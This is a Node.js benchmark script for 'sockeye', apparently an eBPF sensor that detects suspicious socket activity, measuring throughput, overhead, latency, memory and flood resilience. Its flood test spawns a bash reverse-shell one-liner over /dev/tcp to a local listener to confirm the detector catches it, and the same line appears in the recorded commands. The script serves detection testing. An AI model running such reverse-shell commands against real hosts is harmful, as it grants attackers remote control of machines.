#!/usr/bin/env node
/**
 * `npm run bench [-- --quick] [-- --only throughput,overhead,latency,footprint,flood]`:
 * builds the C programs (bench/Makefile), measures, and writes bench/results.{md,json} and plot-*.svg.
 * Root only (it loads sockeye's programs). See bench/README.md for what each part measures.
 *
 * These machines are shared and noisy: every comparison is made within this one run, sides
 * interleaved and repeated, and results are reported as ratios or medians of rounds.
 */
import { spawn, execFileSync } from "node:child_process";
import { readFileSync, writeFileSync, existsSync } from "node:fs";
import { cpus, totalmem, loadavg } from "node:os";
import net from "node:net";
import { createInterface } from "node:readline";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { renderPlots } from "./plots.mjs";

const BENCH = dirname(fileURLToPath(import.meta.url));
const ROOT = join(BENCH, "..");
const BIN = join(ROOT, "build", "bench");
const LOADGEN = join(BIN, "sockeye-loadgen");
const C_CONSUMER = join(BIN, "sockeye-c-consumer");
const TS_CONSUMER = join(BENCH, "ts-consumer.mjs");
const CLI = join(ROOT, "dist", "cli", "main.js");
const CLK_TCK = 100; // sysconf(_SC_CLK_TCK) on Linux x86_64/arm64

const argv = process.argv.slice(2);
const quick = argv.includes("--quick");
const onlyArg = argv[argv.indexOf("--only") + 1];
const only = argv.includes("--only") && onlyArg ? new Set(onlyArg.split(",")) : null;
const outDir = argv.includes("--out") ? argv[argv.indexOf("--out") + 1] : BENCH;
const wanted = (part) => !only || only.has(part);

// Sizes of each part, quick (a couple of minutes in all) and full.
const P = quick
  ? { rounds: 1, stepS: 1, ohRounds: 2, execRounds: 2, dupCalls: 300_000, connectCalls: 150_000, execCalls: 150,
      probes: 200, footprintS: 10, floodS: 10, shells: 10 }
  // fork+exec gets more rounds and calls than dup2/connect: its goal is a 5% line, and 4
  // rounds of 600 left the sides within about 3% noise of each other (bench/README.md).
  : { rounds: 3, stepS: 2, ohRounds: 4, execRounds: 10, dupCalls: 1_000_000, connectCalls: 400_000, execCalls: 1500,
      probes: 1000, footprintS: 60, floodS: 30, shells: 30 };
const LADDER = [25e3, 50e3, 100e3, 150e3, 200e3, 300e3, 400e3, 500e3, 600e3, 800e3, 1e6, 1.25e6, 1.5e6];

function fail(message) {
  process.stderr.write(`bench: ${message}\n`);
  process.exit(1);
}
const log = (m) => process.stderr.write(`bench: ${m}\n`);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const median = (xs) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length === 0 ? null : s.length % 2 ? s[(s.length - 1) / 2] : (s[s.length / 2 - 1] + s[s.length / 2]) / 2;
};
const quantile = (xs, q) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length === 0 ? null : s[Math.min(s.length - 1, Math.floor(q * s.length))];
};
const round = (x, d = 3) => (x === null || x === undefined || !Number.isFinite(x) ? null : Number(x.toFixed(d)));

/** utime + stime of a process and all its threads, in seconds. */
function cpuSeconds(pid) {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
  return (Number(fields[11]) + Number(fields[12])) / CLK_TCK;
}
/** Resident MB of the BPF ring buffers' mappings (libbpf maps each ring's data twice). */
function ringMappingsMb(pid) {
  let inRing = false, kb = 0;
  for (const line of readFileSync(`/proc/${pid}/smaps`, "utf8").split("\n")) {
    if (/^[0-9a-f]+-[0-9a-f]+ /.test(line)) inRing = line.includes("anon_inode:bpf-map");
    else if (inRing && line.startsWith("Rss:")) kb += Number(line.split(/\s+/)[1]);
  }
  return kb / 1024;
}
function rssMb(pid) {
  const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
  return m ? Number(m[1]) / 1024 : null;
}

/** Runs a command to its end, bounded in time; returns its last stdout line parsed as JSON. */
function runJson(cmd, args, timeoutS = 180) {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { stdio: ["ignore", "pipe", "inherit"] });
    let out = "";
    child.stdout.on("data", (d) => (out += d));
    const timer = setTimeout(() => child.kill("SIGKILL"), timeoutS * 1000);
    child.on("exit", (code) => {
      clearTimeout(timer);
      if (code !== 0) return reject(new Error(`${cmd} ${args.join(" ")} exited ${code}`));
      resolve(JSON.parse(out.trim().split("\n").pop() ?? ""));
    });
  });
}
const loadgen = (...args) => runJson(LOADGEN, args.map(String));

/** A consumer (C or Node) speaking the stats protocol of bench/ts-consumer.mjs. */
async function startConsumer(kind) {
  // full-rr: the full consumer under SCHED_RR priority 1, what packaging/sockeye.service
  // suggests for a host where the detection latency tail matters.
  const [cmd, args] = kind === "c" ? [C_CONSUMER, []] : kind === "attached" ? [C_CONSUMER, ["attach-only"]]
    : kind === "full-rr" ? ["chrt", ["--rr", "1", process.execPath, TS_CONSUMER, "full"]]
    : [process.execPath, [TS_CONSUMER, kind]];
  const child = spawn(cmd, args, { stdio: ["pipe", "pipe", "inherit"] });
  const lines = createInterface({ input: child.stdout });
  const waiting = [];
  lines.on("line", (l) => waiting.shift()?.(JSON.parse(l)));
  const next = () => new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`${kind} consumer did not answer`)), 60_000);
    waiting.push((v) => { clearTimeout(t); resolve(v); });
  });
  const ready = await next();
  if (!ready.ready) fail(`${kind} consumer did not start`);
  const stats = async () => { child.stdin.write("stats\n"); return next(); };
  return {
    pid: child.pid,
    stats,
    /** Stats once the consumer has caught up: counts stop moving (bounded wait). */
    async settled() {
      let prev = await stats();
      for (let i = 0; i < 100; i++) {
        await sleep(150);
        const cur = await stats();
        cur.latenciesNs = [...prev.latenciesNs ?? [], ...cur.latenciesNs ?? []];
        cur.receivedLatenciesNs = [...prev.receivedLatenciesNs ?? [], ...cur.receivedLatenciesNs ?? []];
        if (cur.records === prev.records) return cur;
        prev = cur;
      }
      return prev;
    },
    async stop() {
      child.stdin.end("quit\n");
      await /** @type {Promise<void>} */ (new Promise((r) => { const t = setTimeout(() => { child.kill("SIGKILL"); r(); }, 10_000); child.on("exit", () => { clearTimeout(t); r(); }); }));
    },
  };
}

// ---- machine facts -----------------------------------------------------------------------

function sh(cmd) {
  try { return execFileSync("bash", ["-c", cmd], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim(); } catch { return ""; }
}
function machineFacts() {
  return {
    date: new Date().toISOString(),
    kernel: sh("uname -r"),
    cpu: cpus()[0]?.model ?? "?",
    cores: cpus().length,
    memoryGiB: round(totalmem() / 2 ** 30, 1),
    node: process.version,
    loadavgAtStart: loadavg().map((x) => round(x, 2)),
    // Other sockeye sensors (other developers' tests) attached now add kernel cost to every side.
    otherBpfProgramsAtStart: Number(sh("bpftool prog show 2>/dev/null | grep -c 'name handle_'") || 0),
    commit: sh(`git -C ${ROOT} rev-parse --short HEAD`),
    quick,
  };
}

// ---- 1. throughput and loss ---------------------------------------------------------------

async function throughputStep(consumer, rate) {
  const before = await consumer.settled();
  const cpu0 = cpuSeconds(consumer.pid);
  const gen = await loadgen("dups", rate, P.stepS);
  const after = await consumer.settled();
  const cpu = cpuSeconds(consumer.pid) - cpu0;
  const received = after.loadgenDups - before.loadgenDups;
  const lost = after.dupLost - before.dupLost;
  return {
    targetRate: rate, achievedRate: Math.round(gen.generated / gen.seconds), generated: gen.generated,
    received, kernelLost: lost, missing: gen.generated - received,
    lossless: lost === 0 && received === gen.generated,
    cpuSecondsPerMillion: received ? round((cpu / received) * 1e6, 3) : null,
  };
}

async function throughput() {
  const kinds = ["c", "noop", "full"];
  const steps = [];
  for (let r = 0; r < P.rounds; r++) {
    // Rotate the order each round so no side always runs first on a warming machine.
    for (const kind of [...kinds.slice(r % 3), ...kinds.slice(0, r % 3)]) {
      const consumer = await startConsumer(kind);
      const closed = await throughputStep(consumer, 0);
      steps.push({ round: r, consumer: kind, closedLoop: true, ...closed });
      log(`throughput ${kind} round ${r}: closed loop ${closed.achievedRate}/s, lost ${closed.kernelLost}, missing ${closed.missing}`);
      let lossy = 0;
      for (const rate of LADDER) {
        if (rate > closed.achievedRate * 1.1) break;
        const s = await throughputStep(consumer, rate);
        steps.push({ round: r, consumer: kind, closedLoop: false, ...s });
        log(`throughput ${kind} round ${r}: ${rate}/s -> ${s.achievedRate}/s lost ${s.kernelLost} missing ${s.missing}`);
        // Two lossy steps in a row: the rates above will not be lossless either.
        if (s.lossless) lossy = 0; else if (++lossy === 2) break;
      }
      await consumer.stop();
    }
  }
  const summary = {};
  for (const kind of kinds) {
    const mine = steps.filter((s) => s.consumer === kind);
    const perRound = [];
    for (let r = 0; r < P.rounds; r++) {
      const ok = mine.filter((s) => s.round === r && s.lossless).map((s) => s.achievedRate);
      perRound.push(ok.length ? Math.max(...ok) : 0);
    }
    const best = Math.max(...perRound);
    const atBest = mine.filter((s) => s.lossless && s.achievedRate === best)[0];
    summary[kind] = {
      losslessPerRound: perRound,
      lossless: median(perRound),
      closedLoopRate: median(mine.filter((s) => s.closedLoop).map((s) => s.achievedRate)),
      closedLoopLossShare: median(mine.filter((s) => s.closedLoop).map((s) => s.missing / s.generated)),
      cpuSecondsPerMillionAtLossless: atBest?.cpuSecondsPerMillion ?? null,
      lossesAbove: mine.filter((s) => !s.lossless && s.achievedRate > best)
        .map((s) => ({ round: s.round, rate: s.achievedRate, lostShare: round(s.missing / s.generated, 4) })),
    };
  }
  const ratios = [...Array(P.rounds).keys()].map((r) =>
    summary.c.losslessPerRound[r] ? summary.noop.losslessPerRound[r] / summary.c.losslessPerRound[r] : 0);
  return { steps, summary, tsToCRatioPerRound: ratios.map((x) => round(x)), tsToCRatio: round(median(ratios)) };
}

// ---- 2. overhead on the monitored host ----------------------------------------------------

// Sides, from no sensor to the full pipeline: each step adds one layer, so the differences
// split the cost: attached (programs live, nobody reads: the kernel side alone), c (plus a
// minimal reader: wakeups and reading), noop (plus the addon and decoder), full (plus rules,
// process table, output: what `sockeye run` costs).
const OVERHEAD_SIDES = ["off", "attached", "c", "noop", "full"];

async function overhead() {
  const kinds = [["dup2-nonsock", P.dupCalls], ["connect-udp", P.connectCalls], ["exec", P.execCalls]];
  const samples = Object.fromEntries(OVERHEAD_SIDES.map((s) => [s, {}]));
  const rounds = Math.max(P.ohRounds, P.execRounds);
  for (let r = 0; r < rounds; r++) {
    // Rotated, and reversed every other round: drift hits every side alike.
    const rotated = [...OVERHEAD_SIDES.slice(r % OVERHEAD_SIDES.length), ...OVERHEAD_SIDES.slice(0, r % OVERHEAD_SIDES.length)];
    for (const side of r % 2 ? rotated.reverse() : rotated) {
      const consumer = side === "off" ? null : await startConsumer(side);
      for (const [kind, n] of kinds) {
        if (r >= (kind === "exec" ? P.execRounds : P.ohRounds)) continue;
        const res = await loadgen("overhead", kind, n);
        (samples[side][kind] ??= []).push(res.ns_per_call);
      }
      await consumer?.stop();
    }
    log(`overhead round ${r}: ${JSON.stringify(Object.fromEntries(kinds.map(([k]) => [k, OVERHEAD_SIDES.map((s) => samples[s][k]?.at(-1))])))}`);
  }
  const out = {};
  for (const [kind] of kinds) {
    const off = median(samples.off[kind]), on = median(samples.full[kind]);
    const sides = Object.fromEntries(OVERHEAD_SIDES.slice(1).map((s) => {
      const ns = median(samples[s][kind]);
      return [s, { ns: round(ns, 1), addedNs: round(ns - off, 1), ratio: round(ns / off) }];
    }));
    out[kind] = { offNs: round(off, 1), onNs: round(on, 1), addedNs: round(on - off, 1), ratio: round(on / off), sides,
      samples: Object.fromEntries(OVERHEAD_SIDES.map((s) => [s, samples[s][kind]])) };
  }
  return out;
}

// ---- 3. detection latency -----------------------------------------------------------------

async function latency(loadRate) {
  const sum = (xs) => ({ samples: xs.length, p50Ms: round(quantile(xs, 0.5), 3), p99Ms: round(quantile(xs, 0.99), 3), maxMs: round(Math.max(...xs), 3) });
  // The 0th to 100th percentiles (ms), for the CDF plot (bench/plots.mjs).
  const withCdf = (xs) => ({ ...sum(xs), cdf: [...Array(101).keys()].map((i) => round(quantile(xs, i / 100), 3)) });
  const ms = (xs) => xs.map((ns) => ns / 1e6);
  // Breakdown, idle: the C reader holding the record (kernel, wakeup, scheduling of a reader
  // thread), then in the full pipeline the batch reaching the subscriber (plus the addon's
  // hop to the event loop and decoding) and the finding written (plus rules and output).
  const c = await startConsumer("c");
  await c.settled();
  await loadgen("probe", P.probes, 2000);
  const cReader = sum(ms((await c.settled()).latenciesNs));
  await c.stop();

  const consumer = await startConsumer("full");
  await consumer.settled();
  await loadgen("probe", P.probes, 2000);
  const idleStats = await consumer.settled();
  const idle = ms(idleStats.latenciesNs);
  // Under load: matching dups from another process at `loadRate` for the whole probe run.
  const loadS = Math.ceil((P.probes * 2.5) / 1000) + 2;
  const load = loadgen("dups", loadRate, loadS);
  await sleep(500);
  await loadgen("probe", P.probes, 2000);
  const gen = await load;
  const loaded = ms((await consumer.settled()).latenciesNs);
  await consumer.stop();

  // The idle tail is mostly the wait for a CPU; the same probes with the daemon scheduled
  // ahead of the time-shared tasks (SCHED_RR) measure how much.
  const rr = await startConsumer("full-rr");
  await rr.settled();
  await loadgen("probe", P.probes, 2000);
  const idleRr = ms((await rr.settled()).latenciesNs);
  await rr.stop();
  return {
    probes: P.probes, idle: withCdf(idle), idleSchedRr: withCdf(idleRr),
    idleBreakdown: { cReaderHolds: cReader, subscriberReceives: sum(ms(idleStats.receivedLatenciesNs)), findingWritten: sum(idle) },
    load: { ...withCdf(loaded), loadRate: Math.round(gen.generated / gen.seconds) },
  };
}

// ---- 4. footprint ------------------------------------------------------------------------

/** @param {"ignore" | "pipe"} stdout */
function startDaemon(stdout = "ignore") {
  const child = spawn(process.execPath, [CLI, "run"], { stdio: ["ignore", stdout, "pipe"] });
  const stderrStream = /** @type {import("node:stream").Readable} */ (child.stderr); // piped above
  let stderr = "";
  stderrStream.on("data", (d) => (stderr += d));
  const ready = /** @type {Promise<void>} */ (new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`sockeye run not ready in 30 s: ${stderr.trim().split("\n").pop()}`)), 30_000);
    stderrStream.on("data", () => { if (stderr.includes("ready")) { clearTimeout(t); resolve(); } });
    child.on("exit", (code) => reject(new Error(`sockeye run exited ${code}: ${stderr.trim().split("\n").pop()}`)));
  }));
  const exited = new Promise((r) => child.on("exit", r));
  return {
    child, ready, stderrText: () => stderr,
    async stop() {
      child.kill("SIGTERM");
      const t = setTimeout(() => child.kill("SIGKILL"), 10_000);
      await exited;
      clearTimeout(t);
    },
  };
}

async function footprint() {
  const d = startDaemon();
  await d.ready;
  await sleep(2000); // settle: the process table seeded, JIT warm
  const pid = d.child.pid;
  const rss = [];
  const cpu0 = cpuSeconds(pid), t0 = Date.now();
  for (let i = 0; i < P.footprintS; i++) {
    await sleep(1000);
    const mb = rssMb(pid);
    if (mb !== null) rss.push(mb);
  }
  const cpuPercent = ((cpuSeconds(pid) - cpu0) / ((Date.now() - t0) / 1000)) * 100;
  const rings = ringMappingsMb(pid);
  await d.stop();
  return {
    seconds: P.footprintS, rssMbMedian: round(median(rss), 1), rssMbMax: round(Math.max(...rss), 1),
    ringMappingsRssMb: round(rings, 1), rssMbWithoutRingMappings: round(median(rss) - rings, 1),
    cpuPercent: round(cpuPercent, 2),
  };
}

// ---- 5. flood resilience ------------------------------------------------------------------

async function flood() {
  const sockets = new Set();
  // Each reverse shell is told to exit as soon as it connects.
  const server = net.createServer((s) => { sockets.add(s); s.on("error", () => {}); s.end("exit\n"); });
  await /** @type {Promise<void>} */ (new Promise((r) => server.listen(0, "127.0.0.1", r)));
  const port = /** @type {net.AddressInfo} */ (server.address()).port;

  const d = startDaemon("pipe");
  let findingsText = "";
  /** @type {import("node:stream").Readable} */ (d.child.stdout).on("data", (b) => (findingsText += b)); // "pipe"
  await d.ready;
  const flooding = loadgen("flood", P.floodS);
  await sleep(1000);
  const shellPids = [];
  const gap = ((P.floodS - 3) * 1000) / P.shells;
  for (let i = 0; i < P.shells; i++) {
    const sh = spawn("bash", ["-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: "ignore" });
    shellPids.push(sh.pid);
    const done = new Promise((r) => sh.on("exit", r));
    const kill = setTimeout(() => sh.kill("SIGKILL"), 5000);
    await Promise.all([done, sleep(gap)]);
    clearTimeout(kill);
  }
  const floodResult = await flooding;
  await sleep(2000); // let the daemon drain what the flood left in the rings
  await d.stop();
  for (const s of sockets) s.destroy();
  server.close();

  const detectedPids = new Set();
  for (const line of findingsText.split("\n")) {
    if (!line) continue;
    const f = JSON.parse(line);
    // bash forks for `>& /dev/tcp/...`: the redirected shell is the spawned bash's child.
    if (f.rule?.id === "TRC-101" && f.destination?.port === port) detectedPids.add(f.process?.pid).add(f.process?.parent?.pid);
  }
  const detected = shellPids.filter((p) => detectedPids.has(p)).length;
  const stopped = d.stderrText().split("\n").filter(Boolean).map((l) => { try { return JSON.parse(l); } catch { return {}; } })
    .find((l) => l.message === "stopped");
  return {
    shells: P.shells, detected, rate: round(detected / P.shells, 3), flood: floodResult,
    kernelCounters: stopped?.kernel ?? null,
  };
}

// ---- report -----------------------------------------------------------------------------

async function writeResults(facts, parts, commands) {
  const t = parts.throughput, o = parts.overhead, l = parts.latency, f = parts.footprint, fl = parts.flood;
  const json = {
    lossless_events_per_s_ts: t?.summary.noop.lossless ?? null,
    lossless_events_per_s_c: t?.summary.c.lossless ?? null,
    lossless_events_per_s_full: t?.summary.full.lossless ?? null,
    ts_to_c_throughput_ratio: t?.tsToCRatio ?? null,
    dup2_added_ns: o?.["dup2-nonsock"].addedNs ?? null,
    connect_added_ns: o?.["connect-udp"].addedNs ?? null,
    exec_added_ns: o?.exec.addedNs ?? null,
    exec_overhead_ratio: o?.exec.ratio ?? null,
    exec_overhead_ratio_kernel_only: o?.exec.sides.attached.ratio ?? null,
    exec_overhead_ratio_c_consumer: o?.exec.sides.c.ratio ?? null,
    exec_overhead_ratio_noop: o?.exec.sides.noop.ratio ?? null,
    latency_p50_ms_idle: l?.idle.p50Ms ?? null,
    latency_p99_ms_idle: l?.idle.p99Ms ?? null,
    latency_p99_ms_idle_c_reader: l?.idleBreakdown.cReaderHolds.p99Ms ?? null,
    latency_p99_ms_idle_subscriber: l?.idleBreakdown.subscriberReceives.p99Ms ?? null,
    latency_p99_ms_load: l?.load.p99Ms ?? null,
    latency_p99_ms_idle_sched_rr: l?.idleSchedRr.p99Ms ?? null,
    idle_rss_mb: f?.rssMbMedian ?? null,
    idle_rss_mb_without_ring_mappings: f?.rssMbWithoutRingMappings ?? null,
    idle_cpu_percent: f?.cpuPercent ?? null,
    flood_detection_rate: fl?.rate ?? null,
    machine: facts,
    details: parts,
  };
  writeFileSync(join(outDir, "results.json"), `${JSON.stringify(json, null, 2)}\n`);
  const plots = await renderPlots(json, outDir);

  const fmt = (x) => (x === null || x === undefined ? "—" : typeof x === "number" ? x.toLocaleString("en-US") : String(x));
  const goal = (ok) => (ok === null ? "—" : ok ? "met" : "not met");
  const rows = [
    ["lossless matching events/s into TypeScript (addon, no-op handler)", json.lossless_events_per_s_ts, "≥ 1,000,000", t ? goal(json.lossless_events_per_s_ts >= 1e6) : null],
    ["lossless matching events/s, minimal C libbpf consumer", json.lossless_events_per_s_c, "", ""],
    ["lossless matching events/s, full pipeline (all rules, JSON to /dev/null)", json.lossless_events_per_s_full, "", ""],
    ["TypeScript / C lossless rate (median of per-round ratios)", json.ts_to_c_throughput_ratio, "≥ 0.5", t ? goal(json.ts_to_c_throughput_ratio >= 0.5) : null],
    ["CPU s per million events at the lossless rate: C / no-op / full",
      t ? `${fmt(t.summary.c.cpuSecondsPerMillionAtLossless)} / ${fmt(t.summary.noop.cpuSecondsPerMillionAtLossless)} / ${fmt(t.summary.full.cpuSecondsPerMillionAtLossless)}` : null, "", ""],
    ["dup2 of a non-socket: ns added per call", json.dup2_added_ns, "", ""],
    ["connect of a UDP socket to 127.0.0.1: ns added per call", json.connect_added_ns, "", ""],
    ["fork+exec of /bin/true: sensor/no-sensor time ratio", json.exec_overhead_ratio, "≤ 1.05", o ? goal(json.exec_overhead_ratio <= 1.05) : null],
    ["detection latency p50, idle (ms)", json.latency_p50_ms_idle, "", ""],
    ["detection latency p99, idle (ms)", json.latency_p99_ms_idle, "≤ 1", l ? goal(json.latency_p99_ms_idle <= 1) : null],
    [`detection latency p99 under load (ms; ${fmt(l?.load.loadRate)} matching events/s)`, json.latency_p99_ms_load, "", ""],
    ["detection latency p99, idle, daemon under SCHED_RR 1 (ms)", json.latency_p99_ms_idle_sched_rr, "", ""],
    ["idle `sockeye run`: RSS (MB, median)", json.idle_rss_mb, "≤ 60", f ? goal(json.idle_rss_mb <= 60) : null],
    ["idle `sockeye run`: RSS without the ring buffers' mappings (MB)", json.idle_rss_mb_without_ring_mappings, "", ""],
    ["idle `sockeye run`: CPU %", json.idle_cpu_percent, "", ""],
    ["reverse shells detected during an exec + decoy flood", fl ? `${fl.detected}/${fl.shells}` : null, "1.0", fl ? goal(fl.rate === 1) : null],
  ];
  let md = `# sockeye benchmark results\n\n${quick ? "Quick mode (short steps, one round): indicative only.\n\n" : ""}`;
  md += "| measure | value | goal | |\n|---|---|---|---|\n";
  for (const [name, v, g, ok] of rows) md += `| ${name} | ${fmt(v)} | ${g} | ${ok ?? ""} |\n`;
  md += "\n## Plots\n";
  for (const p of plots) md += p.skipped ? `\n${p.title}: not drawn, ${p.skipped}.\n` : `\n![${p.title}](${p.file})\n\n${p.caption}\n`;
  if (t) {
    md += "\n## Throughput steps\n\nrate = what the generator achieved; lost = kernel reserve failures; missing = generated − received.\n\n";
    md += "| round | consumer | target/s | achieved/s | lost | missing | CPU s / M events |\n|---|---|---|---|---|---|---|\n";
    for (const s of t.steps) md += `| ${s.round} | ${s.consumer} | ${s.closedLoop ? "closed loop" : fmt(s.targetRate)} | ${fmt(s.achievedRate)} | ${fmt(s.kernelLost)} | ${fmt(s.missing)} | ${fmt(s.cpuSecondsPerMillion)} |\n`;
  }
  if (o) {
    md += "\n## Overhead per call (medians of interleaved rounds)\n\n| call | no sensor (ns) | sensor (ns) | added (ns) | ratio |\n|---|---|---|---|---|\n";
    for (const [k, v] of Object.entries(o)) md += `| ${k} | ${fmt(v.offNs)} | ${fmt(v.onNs)} | ${fmt(v.addedNs)} | ${fmt(v.ratio)} |\n`;
    md += "\nThe same calls split by layer (ratio to no sensor): attached = programs live, nobody reads; c = plus a minimal C reader; noop = the addon and decoder instead; full = plus rules, process table, output.\n\n";
    md += `| call | ${OVERHEAD_SIDES.slice(1).join(" | ")} |\n|---|${OVERHEAD_SIDES.slice(1).map(() => "---").join("|")}|\n`;
    for (const [k, v] of Object.entries(o)) md += `| ${k} | ${OVERHEAD_SIDES.slice(1).map((s) => `${fmt(v.sides[s].ratio)} (+${fmt(v.sides[s].addedNs)} ns)`).join(" | ")} |\n`;
  }
  if (l) {
    md += "\n## Idle detection latency, by stage (ms from the syscall's BPF timestamp)\n\n| stage | p50 | p99 | max |\n|---|---|---|---|\n";
    const b = l.idleBreakdown;
    for (const [name, v] of [["a minimal C reader holds the record", b.cReaderHolds], ["full pipeline: the decoded batch reaches the subscriber", b.subscriberReceives], ["full pipeline: the finding's JSON line is written", b.findingWritten],
      ["the same, the full pipeline under SCHED_RR 1 (`chrt --rr 1`)", l.idleSchedRr]])
      md += `| ${name} | ${fmt(v.p50Ms)} | ${fmt(v.p99Ms)} | ${fmt(v.maxMs)} |\n`;
  }
  if (fl) md += `\n## Flood\n\n${fmt(fl.flood.execs)} execs with ~6 KiB of argv and ${fmt(fl.flood.decoy_rounds)} decoy rounds (a matching socket dup, a pipe dup, a connect on fd > 2) in ${fl.flood.seconds} s; kernel counters of the daemon at its end: \`${JSON.stringify(fl.kernelCounters)}\`.\n`;
  md += `\n## Commands\n\n${commands.map((c) => `- \`${c}\``).join("\n")}\n`;
  md += `\n## Machine\n\n${Object.entries(facts).map(([k, v]) => `- ${k}: ${Array.isArray(v) ? v.join(", ") : v}`).join("\n")}\n`;
  writeFileSync(join(outDir, "results.md"), md);
}

// ---- main -------------------------------------------------------------------------------

if (process.getuid?.() !== 0) fail("run as root: the benchmarks load sockeye's eBPF programs");
if (!existsSync(CLI) || !existsSync(join(ROOT, "build", "gen", "sockeye.skel.h")))
  fail("sockeye is not built: run 'npm install' (or 'npm run build') first");
try {
  execFileSync("make", ["-s", "-C", BENCH], { stdio: ["ignore", "ignore", "inherit"] });
} catch {
  fail("building the C programs failed (make -C bench): see above");
}

const facts = machineFacts();
const parts = {};
const commands = [
  `npm run bench${quick ? " -- --quick" : ""}`,
  "make -C bench (run by the script: build/bench/sockeye-loadgen, build/bench/sockeye-c-consumer)",
  "consumers: build/bench/sockeye-c-consumer | node bench/ts-consumer.mjs noop | node bench/ts-consumer.mjs full",
  `throughput: sockeye-loadgen dups RATE ${P.stepS} (RATE 0 = closed loop, then ${LADDER.join(", ")} up to 1.1 × the closed-loop rate)`,
  `overhead: sockeye-loadgen overhead dup2-nonsock ${P.dupCalls} | connect-udp ${P.connectCalls} | exec ${P.execCalls}, on each side (no sensor, sockeye-c-consumer attach-only, sockeye-c-consumer, ts-consumer.mjs noop, ts-consumer.mjs full), ${P.ohRounds} interleaved rounds (exec: ${P.execRounds})`,
  `latency: sockeye-loadgen probe ${P.probes} 2000 against sockeye-c-consumer idle, then ts-consumer.mjs full, idle, then beside sockeye-loadgen dups RATE, then chrt --rr 1 ts-consumer.mjs full, idle`,
  `footprint: node dist/cli/main.js run, sampled ${P.footprintS} s after it is ready`,
  `flood: sockeye-loadgen flood ${P.floodS} beside node dist/cli/main.js run, ${P.shells} × bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'`,
];
if (wanted("throughput")) parts.throughput = await throughput();
if (wanted("overhead")) parts.overhead = await overhead();
if (wanted("latency")) parts.latency = await latency(Math.max(10_000, Math.min(100_000, (parts.throughput?.summary.full.lossless ?? 100_000) / 2)));
if (wanted("footprint")) parts.footprint = await footprint();
if (wanted("flood")) parts.flood = await flood();
facts.loadavgAtEnd = loadavg().map((x) => round(x, 2));
await writeResults(facts, parts, commands);
log(`wrote ${join(outDir, "results.md")} and results.json`);
process.exit(0);
